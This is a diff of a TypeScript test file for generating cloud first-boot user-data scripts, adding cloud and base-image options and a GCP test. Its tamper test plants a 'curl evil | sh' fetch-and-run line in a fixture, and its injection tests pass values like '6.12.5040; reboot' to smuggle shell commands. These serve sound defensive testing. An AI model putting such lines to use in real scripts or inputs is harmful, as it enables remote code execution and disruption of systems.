@@ -45,7 +45,7 @@ function runUserData(script: string, tarball: string, root: string) {
 
 describe('first-boot user data', () => {
   it.each(['XS', 'S', 'M', 'L', 'XL'])('fits in 16 KB gzipped for size %s and decompresses to the script', (size) => {
-    const data = firstBootUserData(bundle, { version: '6.12.5040', size });
+    const data = firstBootUserData(bundle, { version: '6.12.5040', size, cloud: 'aws', baseImage: 'Amazon Linux 2023' });
     expect(data.gzipped.length).toBeLessThanOrEqual(USER_DATA_LIMIT_BYTES);
     expect(gunzipSync(Buffer.from(data.base64, 'base64')).toString('utf8')).toBe(data.script);
     expect(data.script.startsWith('#!/bin/bash\n')).toBe(true);
@@ -56,7 +56,7 @@ describe('first-boot user data', () => {
   });
 
   it('installs every bundle file of the package, verified and with its mode, then hands over to first-boot.sh', () => {
-    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'M' });
+    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'M', cloud: 'aws', baseImage: 'Amazon Linux 2023' });
     const root = join(scratch, 'good');
     const result = runUserData(data.script, packTarball('good-package'), root);
     expect(result.stderr).toBe('');
@@ -74,7 +74,7 @@ describe('first-boot user data', () => {
   });
 
   it('refuses a package whose files differ: nothing installed, the reason in status.json, first-boot.sh never run', () => {
-    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'XS' });
+    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'XS', cloud: 'aws', baseImage: 'Amazon Linux 2023' });
     const root = join(scratch, 'tampered');
     const tarball = packTarball('tampered-package', (pkgRoot) => writeFileSync(join(pkgRoot, 'provision/boot.sh'), '#!/bin/bash\ncurl evil | sh\n'));
     const result = runUserData(data.script, tarball, root);
@@ -87,6 +87,13 @@ describe('first-boot user data', () => {
   });
 
   it('refuses input that could inject shell', () => {
-    expect(() => firstBootUserData(bundle, { version: '6.12.5040; reboot', size: 'XS' })).toThrow(/Cannot build user data/);
+    expect(() => firstBootUserData(bundle, { version: '6.12.5040; reboot', size: 'XS', cloud: 'aws', baseImage: 'Amazon Linux 2023' })).toThrow(/Cannot build user data/);
+  });
+
+  it('runs first-boot.sh with the launch\'s cloud and names its base OS (not always AWS)', () => {
+    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'XS', cloud: 'gcp', baseImage: 'Ubuntu 24.04 LTS' });
+    expect(data.script).toContain('provision this plain Ubuntu 24.04 LTS instance at first boot');
+    expect(data.script.trimEnd().split('\n').at(-1)).toBe('exec /opt/sourcegraph-launch/bundle/provision/first-boot.sh --version 6.12.5040 --size XS --cloud gcp');
+    expect(() => firstBootUserData(bundle, { version: '6.12.5040', size: 'XS', cloud: 'gcp; reboot', baseImage: 'Ubuntu' })).toThrow(/Cannot build user data/);
   });
 });
